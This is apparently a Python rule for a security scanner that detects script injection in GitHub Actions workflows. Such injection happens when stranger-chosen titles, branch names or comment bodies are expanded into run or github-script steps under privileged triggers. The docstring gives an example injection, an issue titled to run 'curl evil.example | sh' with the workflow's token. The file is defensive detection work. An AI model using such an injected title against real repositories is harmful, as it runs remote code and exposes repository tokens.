"""A title, a comment or a branch name that a stranger has chosen becomes part of a script.

The runner fills it in before the shell reads it: an issue called `"; curl evil.example | sh #` runs there,
with the workflow's token.
"""

import re
from collections.abc import Iterator
from typing import Any

from scanner.rule import Confidence, FileRule, Finding, Severity, Source, on_file
from scanner.source import Keys

GLOBS = ("**/.github/workflows/*.yml", "**/.github/workflows/*.yaml")
FILLED_IN = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
CHOSEN = re.compile(
    r"github\.head_ref|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)|"
    r"github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)|"
    r"github\.event\.(?:comment|review|review_comment)\.body|github\.event\.pages\b|"
    r"github\.event\.(?:head_commit|commits\[?[^\s]*)\.(?:message|author\.(?:name|email))|"
    r"github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.message)"
)
SAFE = re.compile(r"toJSON\s*\(|contains\s*\(|startsWith\s*\(|endsWith\s*\(|hashFiles|[=!]=", re.I)
# Who starts it gets more than a fork has by itself; `pull_request` runs a stranger's code anyhow.
TRUSTED_START = frozenset(
    [
        "issues",
        "issue_comment",
        "pull_request_target",
        "discussion",
        "discussion_comment",
        "workflow_run",
        "push",
        "pull_request_review_comment",
        "pull_request_review",
    ]
)


class WorkflowScriptInjection(FileRule):
    message = "`{value}` is written by a stranger, and becomes part of a script"
    why = "The expression looks like a variable; it is text that is put into the script before it runs."
    instead = 'Hand it over in `env:`, and use it as `"$TITLE"`.'
    severity, confidence, family = Severity.HIGH, Confidence.HIGH, "security"
    cwe = (78, 94)
    evidence = ("P",)
    security_severity = "8.1"
    languages = ("yaml",)
    paths = tuple(("yaml", glob) for glob in GLOBS)
    roles = ("live",)
    preview = True

    @on_file
    def check(self, source: Source) -> Iterator[Finding]:
        document = source.document
        if not isinstance(document, dict) or "github." not in source.text:
            return
        if not _triggers(document) & TRUSTED_START:
            return
        for keys, script in _scripts(document):
            for found in FILLED_IN.finditer(script):
                chosen = CHOSEN.search(found[1])
                if chosen and not SAFE.search(found[1]):
                    symbol = ".".join(map(str, keys[:4]))
                    yield self.at(source, source.place_of(keys), symbol=symbol, value=chosen[0])
                    break


def _triggers(document: dict[Any, Any]) -> set[str]:
    """What starts a workflow; YAML 1.1 reads the key `on` as true."""
    given = document.get("on", document.get(True))
    if isinstance(given, str):
        return {given}
    return {str(name) for name in given} if isinstance(given, (list, dict)) else set()


def _scripts(document: dict[Any, Any]) -> Iterator[tuple[Keys, str]]:
    """The text of every step that a shell or a script engine runs, with the way to it."""
    jobs = document.get("jobs")
    for job, body in jobs.items() if isinstance(jobs, dict) else ():
        steps = body.get("steps") if isinstance(body, dict) else None
        for number, step in enumerate(steps if isinstance(steps, list) else ()):
            if not isinstance(step, dict):
                continue
            way: Keys = ("jobs", str(job), "steps", number)
            if isinstance(step.get("run"), str):
                yield (*way, "run"), step["run"]
            given = step.get("with")
            script = given.get("script") if isinstance(given, dict) else None
            if isinstance(script, str) and "github-script" in str(step.get("uses")):
                yield (*way, "with", "script"), script
